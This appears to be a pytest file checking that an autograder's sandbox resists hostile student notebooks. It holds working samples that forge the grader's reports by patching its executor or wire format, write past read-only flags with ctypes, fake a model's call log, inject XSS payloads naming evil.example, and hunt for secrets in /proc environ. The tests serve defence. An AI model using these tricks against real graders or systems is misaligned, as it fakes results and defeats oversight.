    assert scores["rebinder"][1] > 0 and scores == {"rebinder": (0.0, scores["rebinder"][1]),
                                                   "snoop": (0.0, scores["rebinder"][1])}, scores
    notebooks = list((course / "autograded").rglob("*.ipynb"))
    assert len(notebooks) == 2
    outputs = json.dumps([cell.get("outputs", []) for p in notebooks for cell in json.loads(p.read_text())["cells"]])
    assert "Not started: replace" in outputs             # the sandbox's verdicts, in the self-check cells
    assert secret not in outputs and "SECRET=" not in outputs and "SOLUTIONS=" not in outputs
    assert secret not in "".join(p.read_text() for p in notebooks)


# ================================================================== issue 20: the in-place check

MUTATING_SOFTMAX = '''def softmax(x, axis=-1):
    x -= x.max(axis=axis, keepdims=True)      # changes the caller's array
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)
'''
HIDE_BY_MODULE = '''import copy
import autograder.run.executor as _ex
_real = _ex.Executor.op_call
def _lying(self, target, args=(), kwargs=None, return_args=False):
    before = copy.deepcopy((list(args), dict(kwargs or {})))
    out = _real(self, target, args, kwargs, return_args)
    if return_args:
        out["args"], out["kwargs"] = before
    return out
_ex.Executor.op_call = _lying
'''
HIDE_BY_GC = '''import copy, gc, sys
def _patch(cls):
    real = cls.op_call
    def lying(self, target, args=(), kwargs=None, return_args=False):
        before = copy.deepcopy((list(args), dict(kwargs or {})))
        try:                                   # and make the arguments writable again, if it can
            for a in list(args):
                a.setflags(write=True)
        except Exception:
            pass
        out = real(self, target, args, kwargs, return_args)
        if return_args:
            out["args"], out["kwargs"] = before
        return out
    cls.op_call = lying
for _o in gc.get_objects():
    if type(_o).__name__ == "Executor":
        _patch(type(_o))
        break
else:
    for _m in list(sys.modules.values()):
        if getattr(_m, "Executor", None) is not None:
            _patch(_m.Executor)
'''
HIDE_BY_CLOSURE = '''import copy, gc, numpy as _np
# wrap whatever bound method serves requests: every frame's `self` that has an op_call
for _o in gc.get_objects():
    if hasattr(type(_o), "op_call") and hasattr(type(_o), "handle"):
        _real_handle = type(_o).handle
        def _handle(self, frame, *more, _real=_real_handle):   # whatever else the worker passes
            real_call = type(self).op_call
            def op_call(me, target, args=(), kwargs=None, return_args=False):
                copies = [_np.array(a) if isinstance(a, _np.ndarray) else a for a in args]
                saved = copy.deepcopy(copies)
                out = real_call(me, target, args, kwargs, return_args)
                if return_args:
                    out["args"] = saved
                return out
            type(self).op_call = op_call
            try:
                return _real(self, frame, *more)
            finally:
                type(self).op_call = real_call
        type(_o).handle = _handle
        break
'''


@pytest.mark.slow
@pytest.mark.parametrize("hide", ["module", "gc", "closure"])
def test_a_patched_executor_cannot_hide_an_in_place_softmax(tmp_path, hide):
    """[R U D] Issue 20, point 7: a cell that wrapped Executor.op_call so that it reported deep
    copies taken before the call hid `x -= x.max(...)`: 3/3 for softmax instead of 0/3 with
    input-modified. NumPy arguments now reach the function read-only, so the write itself fails
    in the student's function, whatever the process reports afterwards (module, gc and closure
    variants of the patch)."""
    from autograder.pipeline import grade_student
    patch = {"module": HIDE_BY_MODULE, "gc": HIDE_BY_GC, "closure": HIDE_BY_CLOSURE}[hide]
    nb = notebook_with("01_scaled_dot_product_attention", {"softmax": patch + MUTATING_SOFTMAX}, tmp_path / "s")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({"01_scaled_dot_product_attention": nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    softmax = [t for t in result["tests"] if "exercise:softmax" in t["tags"]]
    assert softmax and sum(t["score"] for t in softmax) == 0, [(t["name"], t["score"]) for t in softmax]
    assert any("mistake:input-modified" in t["tags"] for t in softmax)


def test_read_only_arguments_cannot_be_made_writable_again():
    """[R U D] Issue 20, point 7: the arguments' memory refuses writes and the WRITEABLE flag."""
    import numpy as np
    from autograder.run.executor import read_only
    a = read_only([np.arange(6.0).reshape(2, 3)])[0]
    for attempt in (lambda: a.setflags(write=True), lambda: a.__setitem__(0, 1.0),
                    lambda: np.subtract(a, 1, out=a), lambda: a.T.__iadd__(1), lambda: a.sort()):
        with pytest.raises(ValueError):
            attempt()
    assert a.tolist() == [[0.0, 1.0, 2.0], [3.0, 4.0, 5.0]]


@pytest.mark.parametrize("payload", [
    "[click](javascript:alert(1))", "<https://evil.example/>", "https://evil.example/x", "<!-- hidden -->",
    "&lt;img src=x onerror=alert(1)&gt;", "| a | b |\n|---|---|\n| 1 | 2 |", "# forged heading",
    "![x](https://evil.example/pixel.png)", "**Score: 55 / 55**", "~~~\n<script>alert(1)</script>\n~~~",
    "\\<img src=x onerror=alert(1)\\>", "`" * 40 + "\n<img src=x onerror=alert(1)>"])
def test_feedback_notes_and_names_render_as_text(payload):
    """[R U D] Issue 20, point 6, more payloads: a student's folder name, a note about their files
    and a check's output render as the text they are (no link, image, heading, table, comment,
    entity or tag of theirs) with nbconvert's Markdown renderer."""
    import re
    from nbconvert.filters.markdown_mistune import markdown2html_mistune
    from autograder.report.results import feedback_markdown
    result = {"score": 1.0, "max_score": 2.0, "output": payload,
              "tests": [{"name": "01_scaled_dot_product_attention: softmax rows sum to one", "score": 0.0,
                         "max_score": 1.0, "status": "failed", "output": payload,
                         "tags": ["lesson:01_scaled_dot_product_attention", "exercise:softmax"]},
                        {"name": "01_scaled_dot_product_attention: other", "score": 1.0, "max_score": 1.0,
                         "status": "passed", "output": "", "tags": ["lesson:01_scaled_dot_product_attention",
                                                                   "exercise:scaled_dot_product_attention"]}]}
    page = markdown2html_mistune(feedback_markdown(payload.splitlines()[0], result))
    outside = re.sub(r"<pre>.*?</pre>", "", page, flags=re.S)
    for tag in ("<a ", "<img", "<script", "<table", "<!--", "<h1 id=\"forged", "<strong>Score: 55"):
        assert tag not in outside.replace('<a class="anchor-link"', ""), (tag, outside)
    assert len(re.findall(r"<h1", page)) == 1 and outside.count("<strong>Score:") == 1


# ================================================================== the grader's own time and memory

def _lesson01_with(tmp_path, before: list[str], name: str = "s") -> dict:
    """Lesson 01's solution with `before` code cells inserted above its first graded cell."""
    nb = json.loads((ROOT / "solutions" / "01_scaled_dot_product_attention.ipynb").read_text())
    first = next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
    nb["cells"][first:first] = [{"cell_type": "code", "metadata": {}, "source": src, "outputs": [],
                                 "execution_count": None} for src in before]
    folder = tmp_path / name
    folder.mkdir()
    path = folder / "01_scaled_dot_product_attention.ipynb"
    path.write_text(json.dumps(nb))
    return {"01_scaled_dot_product_attention": path}


@pytest.mark.slow
def test_a_spent_budget_runs_nothing_more_and_is_said_once(tmp_path):
    """[R U D] Review, issue 20 point 5: budget 5 s; one 6 s cell and 400 trivial cells took 18-21 s
    and 409 worker children (a spent budget cut every later cell, and each cut respawned)."""
    from autograder.pipeline import grade_student
    notebooks = _lesson01_with(tmp_path, ["import time\ntime.sleep(6)"] + ["x = 1"] * 400)
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        sandbox.check()
        spawned = sandbox.spawned
        started = time.monotonic()
        result = grade_student(notebooks, sandbox, time_limit=10.0, budget=5.0)
        took = time.monotonic() - started
    finally:
        sandbox.close()
    assert sandbox.spawned - spawned <= 2, f"{sandbox.spawned - spawned} worker children for a spent budget"
    assert took < 10, f"grading took {took:.1f} s on a 5 s budget"
    output = result.get("output", "")
    assert output.count("time budget of 5 s for this whole submission ran out") == 1, output
    assert result["score"] == 0 < result["max_score"]


@pytest.mark.slow
def test_cells_that_kill_the_worker_cannot_respawn_it_without_end(tmp_path):
    """[R U D] Review, issue 20 point 5: 1,500 cells of os._exit(0) added 62 s to a CLI run (every
    crash respawned the worker and re-ran every cell before it, none of it charged). After
    MAX_RESTARTS, the student's own cells below stop running; the graded cells still do."""
    from autograder.isolate.submission import MAX_RESTARTS
    from autograder.pipeline import grade_student
    notebooks = _lesson01_with(tmp_path, ["import os\nos._exit(0)"] * 1500)
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        sandbox.check()
        spawned = sandbox.spawned
        started = time.monotonic()
        result = grade_student(notebooks, sandbox, time_limit=10.0)
        took = time.monotonic() - started
    finally:
        sandbox.close()
    assert sandbox.spawned - spawned <= MAX_RESTARTS + 2, sandbox.spawned - spawned
    assert took < 30, f"grading took {took:.1f} s"
    assert "cells hung or stopped the worker process; your own cells after" in result.get("output", ""), \
        result.get("output")
    assert result["score"] == result["max_score"] > 0, result.get("output")   # the graded cells still ran


@pytest.mark.slow
def test_the_time_budget_charges_starting_workers(tmp_path):
    """[R U D] Starting a child is the student's time: with a worker whose spawns take 1 s each, a
    2 s budget is spent after two of them, however cheap the cells are."""
    from autograder.isolate.submission import Budget, Submission
    from autograder.load.notebook import build_program
    from autograder.course import COURSE

    class SlowSpawns(Sandbox):
        def spawn(self):
            time.sleep(1.0)
            return super().spawn()
    notebooks = _lesson01_with(tmp_path, ["import os\nos._exit(0)"] * 20)
    program = build_program(notebooks["01_scaled_dot_product_attention"], COURSE["01_scaled_dot_product_attention"])
    sandbox = SlowSpawns(memory_bytes=GiB)
    budget = Budget(2.0)
    sub = Submission(program, sandbox, 10.0, budget)
    try:
        sub.begin_exercise("softmax")
        with pytest.raises(SubmissionFault):
            sub.request("call", target=["name", "softmax"])
    finally:
        sub.close()
        sandbox.close()
    assert budget.left <= 0 and budget.ran_out_at is not None
    assert sandbox.spawned <= 3, sandbox.spawned


GRADER_MEMORY = r"""
import json, resource, sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from autograder.course import COURSE
from autograder.load.notebook import build_program
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
program = build_program(Path(sys.argv[2]), COURSE["01_scaled_dot_product_attention"])
grew = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(json.dumps({"grew_mb": grew / 1024, "cells": len(program.cells), "fatal": program.fatal}))
"""


def _bomb(path, elements: int):
    """A notebook whose one output holds `elements` empty objects: ~22 bytes of memory per byte."""
    nb = json.loads((ROOT / "solutions" / "01_scaled_dot_product_attention.ipynb").read_text())
    nb["cells"][0]["outputs"] = [{"output_type": "execute_result", "metadata": {}, "execution_count": 1,
                                  "data": {"application/json": "BOMB"}}]
    head, tail = json.dumps(nb).split('"BOMB"')
    with open(path, "w") as f:
        f.write(head + "[{}")
        for _ in range(elements // 100_000):
            f.write(",{}" * 100_000)
        f.write("]" + tail)


@pytest.mark.parametrize("case", ["one 3 MB cell", "JSON bomb under 2 MB", "JSON bomb of 100 MB",
                                  "4,000 cells", "a 4 MB cell"])
@pytest.mark.slow
def test_reading_a_notebook_costs_the_grader_bounded_memory(tmp_path, case):
    """[R U D] Review, issue 20 point 4: a 3 MB notebook holding one cell `x = [0, 0, ...]` made
    the grader peak at 1,652 MB (ast.parse in the grader, no limit). Parsing what a student wrote
    (the notebook's JSON, its cells' Python) must cost the grader little, whatever the file."""
    path = tmp_path / "01_scaled_dot_product_attention.ipynb"
    if case == "JSON bomb under 2 MB":
        _bomb(path, 600_000)
    elif case == "JSON bomb of 100 MB":
        _bomb(path, 33_000_000)
    else:
        nb = json.loads((ROOT / "solutions" / "01_scaled_dot_product_attention.ipynb").read_text())
        extra = {"one 3 MB cell": ["x = [" + "0, " * 1_000_000 + "]\n"],
                 "4,000 cells": [f"y{i} = {i}" for i in range(4000)],
                 "a 4 MB cell": ["x = (" + "a+" * 2_000_000 + "a)\n"]}[case]
        nb["cells"] += [{"cell_type": "code", "metadata": {}, "source": src, "outputs": [], "execution_count": None}
                        for src in extra]
        path.write_text(json.dumps(nb))
    run = subprocess.run([sys.executable, "-c", GRADER_MEMORY, str(ROOT), str(path)], capture_output=True,
                         text=True, timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]
    got = json.loads(run.stdout)
    assert got["grew_mb"] < 100, got
    if case in ("one 3 MB cell", "JSON bomb under 2 MB", "4,000 cells"):   # still graded
        assert got["fatal"] is None, got


WIRE_MEMORY = r"""
import json, resource, sys
sys.path.insert(0, sys.argv[1])
from autograder.isolate.sandbox import Sandbox, SubmissionFault
box = Sandbox(memory_bytes=1024 ** 3)
box.check()
child = box.spawn()
try:
    child.request("exec", 30, label="forge", source=sys.argv[2])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        child.request("call", 30.0, target=["name", "forge"])
        outcome = "decoded"
    except SubmissionFault as fault:
        outcome = "fault: " + str(fault)
    grew = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
finally:
    child.close()
    box.close()
print(json.dumps({"grew_mb": grew, "outcome": outcome}))
"""


@pytest.mark.slow
@pytest.mark.parametrize("answer", ["8 MB of [] in a forged header", "a 48 MB array"])
def test_a_huge_answer_on_the_wire_costs_the_grader_bounded_memory(answer):
    """[R U D] A forged reply of 8 MB of `[],[],...` (within the header limit) cost the grader
    190 MB to decode (parsed, then rebuilt): past 400 MB with torch loaded. It is refused by its
    count of values. A large array is read once, into the frame its result is a view of."""
    if answer.startswith("8 MB"):
        code = FIND_SOCKET + """
def forge():
    s = _grader_socket()
    header = b'{"value": {"ok": true, "value": [' + b'[],' * 2_700_000 + b'[]]}, "buffers": []}'
    s.sendall(struct.pack(">Q", len(header)) + header)
    time.sleep(30)
"""
    else:
        code = "import numpy as np\ndef forge():\n    return np.zeros(6_000_000)\n"
    run = subprocess.run([sys.executable, "-c", WIRE_MEMORY, str(ROOT), code], capture_output=True, text=True,
                         timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]
    got = json.loads(run.stdout.strip().splitlines()[-1])
    if answer.startswith("8 MB"):
        assert got["outcome"].startswith("fault"), got
        assert got["grew_mb"] < 40, got
    else:
        assert got["outcome"] == "decoded" and got["grew_mb"] < 70, got


# ================================================================== issue 20: what the grader sees after a call

def _solution_cell(lesson: str, grade_id: str) -> str:
    nb = json.loads((ROOT / "solutions" / f"{lesson}.ipynb").read_text())
    return next("".join(c["source"]) for c in nb["cells"]
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


# Softmax that writes into its argument past the read-only flag (into the memory itself), so that
# the write cannot fail; the reply then claims the arguments were untouched.
WRITES_PAST_THE_FLAG = '''import ctypes
def softmax(x, axis=-1):
    shifted = np.ascontiguousarray(x - x.max(axis=axis, keepdims=True))
    if x.flags.c_contiguous and x.dtype == shifted.dtype:
        ctypes.memmove(x.ctypes.data, shifted.ctypes.data, shifted.nbytes)   # the caller's array
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)
'''
FORGE_BY_WIRE = '''import copy
import autograder.run.wire as _w
_real_decode, _real_encode, _saved = _w.decode, _w.encode, {}
def _decode(frame, **kw):
    out = _real_decode(frame, **kw)
    if isinstance(out, dict) and isinstance(out.get("args"), dict):
        _saved["args"] = copy.deepcopy((out["args"].get("args"), out["args"].get("kwargs")))
    return out
def _encode(value, **kw):
    inner = value.get("value") if isinstance(value, dict) else None
    if isinstance(inner, dict) and "args" in inner and "args" in _saved:
        inner["args"], inner["kwargs"] = _saved["args"]
    return _real_encode(value, **kw)
_w.decode, _w.encode = _decode, _encode
'''
FORGERIES = {"executor": HIDE_BY_MODULE, "gc": HIDE_BY_GC, "wire": FORGE_BY_WIRE}


def _graded(lesson, cells, folder, exercise):
    from autograder.pipeline import grade_student
    nb = notebook_with(lesson, cells, folder)
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({lesson: nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    return [t for t in result["tests"] if f"exercise:{exercise}" in t["tags"]]


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_a_forged_report_cannot_hide_a_write_into_a_numpy_argument(tmp_path, forgery):
    """[R U D] Issue 20, "grader internals out of the student's reach": the arguments after a call
    were the child's report, so a softmax that wrote into its argument's memory (past the read-only
    flag, with ctypes) and patched the executor or the wire format (or found them through gc) to
    report copies taken before the call got 3/3. The grader now reads the arguments back from
    memory of its own; the same patch over the reference still gets full marks."""
    lesson, forge = "01_scaled_dot_product_attention", FORGERIES[forgery]
    softmax = _graded(lesson, {"softmax": forge + WRITES_PAST_THE_FLAG}, tmp_path / "cheat", "softmax")
    assert softmax and sum(t["score"] for t in softmax) == 0, [(t["name"], t["score"]) for t in softmax]
    assert all("mistake:input-modified" in t["tags"] for t in softmax), [t["output"] for t in softmax]
    honest = _graded(lesson, {"softmax": forge + _solution_cell(lesson, "softmax")}, tmp_path / "ref", "softmax")
    assert honest and all(t["score"] == t["max_score"] for t in honest), [t["output"] for t in honest]


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_a_forged_report_cannot_hide_an_in_place_write_into_a_tensor(tmp_path, forgery):
    """[R U D] Issue 20: torch tensors cannot be made read-only, so for them the in-place check
    trusted the child's report entirely: next_token_probs dividing the caller's logits in place
    (`logits.sub_(max).div_(temperature)`) under a forged report got full marks. The tensors now live in the
    grader's memory, which it reads back itself; the reference under the same patch still passes."""
    lesson = "09_generating_text"
    solution = _solution_cell(lesson, "next_token_probs")
    mutating = solution.replace("logits = logits / temperature",   # shifts the caller's logits: same probabilities
                                "logits = logits.sub_(logits.amax(dim=-1, keepdim=True)).div_(temperature)")
    assert mutating != solution
    probs = _graded(lesson, {"next_token_probs": FORGERIES[forgery] + mutating}, tmp_path / "cheat", "next_token_probs")
    assert probs and sum(t["score"] for t in probs) == 0, [(t["name"], t["score"]) for t in probs]
    assert any("mistake:input-modified" in t["tags"] for t in probs), [t["output"] for t in probs]
    honest = _graded(lesson, {"next_token_probs": FORGERIES[forgery] + solution}, tmp_path / "ref", "next_token_probs")
    assert honest and all(t["score"] == t["max_score"] for t in honest), [t["output"] for t in honest]


def test_the_grader_reads_call_arguments_from_its_own_sealed_memory(box):
    """[R U D] The arguments after a call are what the grader reads from its own memory, whatever
    the child replies: a child that reports other arguments, writes into a tensor and an array
    (past its flag), or tries to shrink that memory, is seen as it is."""
    import numpy as np
    import torch
    child = box.spawn()
    try:
        child.request("exec", 20, label="attack", source='''import ctypes, gc, os, numpy as np
def touch(x, t):
    t.add_(1)
    x.setflags(write=True)
    x[0] = -7.0
    shrunk = []
    for fd in range(3, 64):          # the grader's memory is sealed: it cannot shrink
        try:
            os.ftruncate(fd, 0)
            shrunk.append(fd)
        except OSError:
            pass
    return shrunk
for o in gc.get_objects():
    if type(o).__name__ == "Executor":
        real = type(o).op_call
        def op_call(self, *a, **k):
            out = real(self, *a, **k)
            out["args"] = [np.zeros(3), np.zeros(2)]    # a forged report
            return out
        type(o).op_call = op_call
        break
''')
        x, t = np.arange(3.0), torch.arange(2.0)
        reply = child.request("call", 20, target=["name", "touch"], args=[x, t], return_args=True)
    finally:
        child.close()
    after_x, after_t = reply["args"]
    assert after_x.tolist() == [-7.0, 1.0, 2.0] and isinstance(after_t, torch.Tensor) and after_t.tolist() == [1.0, 2.0]
    assert x.tolist() == [0.0, 1.0, 2.0] and t.tolist() == [0.0, 1.0]   # the grader's own are untouched


# ================================================================== issue 20: lesson 06's subjects leave no notes

LEAVE_A_NOTE = r'''import ctypes, os, threading
def leave_a_note():
    """Every way this process could change state the next subject can read."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    done = {}
    def attempt(name, action):
        try:
            done[name] = action()
        except Exception as exc:
            done[name] = "refused: " + type(exc).__name__
    def threads():    # each thread takes a pid: the next subject's pid would jump by 200
        for _ in range(200):
            t = threading.Thread(target=lambda: None)
            t.start()
            t.join()
        return "ok"
    def forks():
        for _ in range(50):
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
        return "ok"
    def files():      # each file takes an inode number: the next subject's own file would show it
        for i in range(50):
            with open(f"note{i}", "w") as f:
                f.write("x")
        return "ok"
    def call(value):
        if value < 0:
            raise OSError(ctypes.get_errno(), "refused")
        return "ok"
    attempt("threads", threads)
    attempt("forks", forks)
    attempt("files", files)
    attempt("message queue", lambda: call(libc.syscall(240, b"lesson06-note", 0o100 | 0o2, 0o600, None)))
    attempt("inotify", lambda: call(libc.inotify_init1(0)))
    buf = ctypes.create_string_buffer(8)
    attempt("mincore", lambda: call(libc.mincore(ctypes.c_void_p(ctypes.addressof(buf) & ~4095), ctypes.c_size_t(4096), buf)))
    fd = os.open("/usr/lib/os-release" if os.path.exists("/usr/lib/os-release") else "/usr", os.O_RDONLY)
    attempt("fadvise", lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED) or "ok")
    os.close(fd)
    return {"done": done, "pid": os.getpid(), "uid": os.getuid(), "cwd": os.getcwd()}
'''


def test_a_lesson06_subject_can_leave_nothing_for_the_next_one(box):
    """[R U D] Issue 20, point 3: each subject ran in a fresh process, but the kernel's counters
    carried notes from one to the next: a subject that started 200 threads moved the next one's pid
    by 200 (its pid was 7, then 109, then 311), files it made moved the next one's inode numbers,
    and the uid and scratch folder name counted the children started before. A subject now starts
    no process or thread, makes no file, opens no message queue or file watch, and learns nothing
    of the page cache; its uid and folder name are drawn at random."""
    seen = []
    for _ in range(3):
        child = box.spawn(subject=True)
        try:
            child.request("exec", 20, label="attack", source=LEAVE_A_NOTE)
            seen.append(child.request("call", 60, target=["name", "leave_a_note"])["result"])
        finally:
            child.close()
    for report in seen:
        assert all(str(v).startswith("refused") for v in report["done"].values()), report["done"]
    names = [os.path.basename(r["cwd"]) for r in seen]
    assert not any(any(ch.isdigit() for ch in name.split("-")[0]) for name in names), names
    if any(layer.startswith("separate") for layer in box.layers):   # a uid of its own (root)
        uids = [r["uid"] for r in seen]
        assert len(set(uids)) == 3 and not (uids[1] - uids[0] == uids[2] - uids[1] == 1), uids
    if box.namespaces:   # pids: only the worker's own spawns move the counter between two subjects
        pids = [r["pid"] for r in seen]
        assert all(0 < b - a < 20 for a, b in zip(pids, pids[1:])), pids


def test_an_ordinary_child_still_starts_threads_and_writes_its_scratch(box):
    """The subject's restrictions are the subject's: a notebook's child keeps threads, processes
    and its scratch folder (lessons use DataLoader workers, matplotlib caches, files of their own)."""
    child = box.spawn()
    try:
        child.request("exec", 20, label="attack", source=LEAVE_A_NOTE)
        done = child.request("call", 60, target=["name", "leave_a_note"])["result"]["done"]
    finally:
        child.close()
    assert done["threads"] == done["forks"] == done["files"] == "ok", done
    assert str(done["inotify"]).startswith("refused") and str(done["message queue"]).startswith("refused"), done


def test_the_notebooks_child_is_ended_before_a_subject_runs(tmp_path):
    """[R U D] Issue 20, point 3: the notebook's child stayed alive while the subjects ran, so a
    thread of the student's there could watch them (the pid counter, the shared files) and pass
    notes from one subject to the next. It is ended before any subject starts."""
    from autograder.course import COURSE
    from autograder.isolate.submission import Submission
    from autograder.load.notebook import build_program
    nb = notebook_with(LESSON6, {}, tmp_path / "s")
    sandbox = Sandbox(memory_bytes=GiB)
    sub = Submission(build_program(nb, COURSE[LESSON6]), sandbox, 10.0)
    try:
        sub.begin_exercise("test_projections")
        sub.request("names")
        notebook_child = sub.child
        assert notebook_child is not None and notebook_child.alive
        verdict = sub.fresh_call(["name", "test_projections"], [1], 5.0)
        assert verdict["outcome"] == "raised"
        assert not notebook_child.alive and sub.child is None
    finally:
        sub.close()
        sandbox.close()


# ================================================================== issue 20: more attacks on the new paths

def test_the_child_never_sees_the_course_secret_or_a_grader_descriptor(monkeypatch):
    """[R U D] A student looks for the course secret (its environment, every descriptor it may have
    inherited, the grader's memory through /proc) and for any open file of the grader's: the
    worker starts with an environment of its own, and a child keeps only its socket."""
    monkeypatch.setenv("AUTOGRADER_SECRET", "secret-for-the-attack-7f3a")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        found = attempt(sandbox, '''import os, stat
RESULT = {"env": [k for k, v in os.environ.items() if "secret-for-the-attack" in v or "AUTOGRADER" in k],
          "fds": []}
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    null = stat.S_ISCHR(mode) and os.fstat(fd).st_rdev == os.stat("/dev/null").st_rdev   # its own stdout/stderr
    RESULT["fds"].append((fd, "socket" if stat.S_ISSOCK(mode) else "null" if null else oct(mode)))
for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"):
    try:
        RESULT.setdefault("proc", []).append("secret-for-the-attack" in open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
''')
    finally:
        sandbox.close()
    assert found["env"] == [] and not any(found.get("proc", [])), found
    kinds = [kind for _, kind in found["fds"]]
    assert set(kinds) <= {"socket", "null"} and kinds.count("socket") <= 1, found["fds"]


def test_descriptors_sent_with_a_reply_never_reach_the_grader(box):
    """[R U D] The child sends file descriptors with its reply (SCM_RIGHTS on its socket, through a
    patched wire.send): the grader reads replies with plain recv, so none is installed in it."""
    child = box.spawn()
    try:
        child.request("exec", 20, label="attack", source='''import os, socket
import autograder.run.wire as _w
_fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(4)]
def _send(sock, frame):
    socket.send_fds(sock, [frame[:1]], _fds)
    sock.sendall(frame[1:])
_w.send = _send
def ping():
    return "pong"
''')
        before = len(os.listdir("/proc/self/fd"))
        for _ in range(20):
            assert child.request("call", 20, target=["name", "ping"])["result"] == "pong"
        after = len(os.listdir("/proc/self/fd"))
    finally:
        child.close()
    assert after <= before, (before, after)


def test_a_reply_pointing_at_shared_memory_costs_only_the_exercise(box):
    """[R U D] A forged reply whose answer claims to live in shared memory ("$shared" nodes, with
    offsets of its choosing): the grader decodes replies without any shared memory, so the frame is
    unreadable, the child is ended, and nothing of the grader's memory is read."""
    child = box.spawn()
    try:
        child.request("exec", 20, label="attack", source='''import json, struct
import autograder.run.wire as _w
_real, _armed = _w.encode, []
def _encode(value, **kw):
    if not _armed:
        return _real(value, **kw)
    header = json.dumps({"value": {"ok": True, "value": {"result": {"$shared": ["float64", [1 << 20], 0],
                         "kind": "numpy"}}}, "buffers": []}).encode()
    return struct.pack(">Q", len(header)) + header
_w.encode = _encode
def f():
    _armed.append(1)
    return 1
''')
        with pytest.raises(SubmissionFault) as caught:
            child.request("call", 20, target=["name", "f"], return_args=True)
        assert caught.value.kind == "crash"
    finally:
        child.close()
    again = box.spawn()        # the worker itself is fine
    try:
        assert run_in(again, "RESULT = 2") == 2
    finally:
        again.close()


def test_answers_arrive_as_plain_data_whatever_their_class(box):
    """[R U D] An answer of a NumPy or torch subclass whose comparisons always say "equal" (and a
    float subclass): on the grader's side they are plain arrays, tensors and floats."""
    import numpy as np
    import torch
    child = box.spawn()
    try:
        child.request("exec", 20, label="attack", source='''import numpy as np, torch
class Always(np.ndarray):
    def __eq__(self, other): return True
    def __array_function__(self, *a, **k): return True
class AlwaysT(torch.Tensor):
    def __eq__(self, other): return True
    def allclose(self, *a, **k): return True
class F(float):
    def __eq__(self, other): return True
def answers():
    return np.zeros(3).view(Always), torch.Tensor._make_subclass(AlwaysT, torch.zeros(2)), F(1.5)
''')
        a, t, f = child.request("call", 20, target=["name", "answers"], return_args=True)["result"]
    finally:
        child.close()
    assert type(a) is np.ndarray and type(t) is torch.Tensor and not np.array_equal(a, np.ones(3))
    assert not torch.equal(t, torch.ones(2)) and (type(f) is not float or f == 1.5)


NO_CACHE_FORGED_LOG = '''def generate(model, prompt, max_new_tokens, temperature=1.0, top_k=None, top_p=None, generator=None):
    was = model.training
    model.eval()
    try:
        with torch.no_grad():
            seq = prompt
            for step in range(max_new_tokens):
                logits, _ = model(seq, cache=None)          # the whole sequence again: the cache never used
                last = logits[:, -1, :]
                if temperature == 0:
                    token = last.argmax(dim=-1, keepdim=True)
                else:
                    token = torch.multinomial(next_token_probs(last, temperature, top_k, top_p), 1, generator=generator)
                seq = torch.cat([seq, token], dim=1)
            b, t0 = prompt.shape                            # the log the grader asks for, rewritten
            model.calls[:] = [[[b, t0], None, False, False]] + [[[b, 1], t0 + j, False, False]
                                                                for j in range(max_new_tokens - 1)]
            return seq
    finally:
        model.train(was)
'''


def test_generate_without_the_cache_cannot_forge_the_models_call_log(tmp_path):
    """[R U D] A generate that never uses the cache and rewrites `model.calls` to the expected
    pattern: the call log lives in the student's process, so the cache check judges the tokens
    of a model whose answer depends on the cache it is given (tests/test_generate_attacks.py)."""
    lesson = "09_generating_text"
    cells = {"generate": NO_CACHE_FORGED_LOG, "next_token_probs": _solution_cell(lesson, "next_token_probs")}
    cache = [t for t in _graded(lesson, cells, tmp_path / "cheat", "generate") if "the cache" in t["name"]]
    assert cache and sum(t["score"] for t in cache) == 0, [(t["name"], t["score"]) for t in cache]


# ================================================================== class files written in a thread

def test_a_class_run_that_cannot_write_grades_csv_fails_with_parallel_jobs_too(tmp_path):
    """[R][U][D] With --jobs >= 2, grades.csv and class-report.html are written in a thread while
    the jobs end. A write that fails there (here: OUT/grades.csv is a folder) must fail the run as
    it does with --jobs 1, not print a traceback and exit 0 with no grades.csv."""
    from autograder.classroom.runner import grade_many
    from autograder.course import SOLUTIONS
    lesson = "01_scaled_dot_product_attention"
    students = {name: {lesson: SOLUTIONS / f"{lesson}.ipynb"} for name in ("alice", "bob")}
    for jobs in (1, 2):
        out = tmp_path / f"out-{jobs}"   # a fresh folder: no student's results are taken from a previous run
        (out / "grades.csv").mkdir(parents=True)
        with pytest.raises(OSError):
            grade_many(students, jobs=jobs, out_dir=out, show=lambda *_: None)
        assert (out / "grades.csv").is_dir()
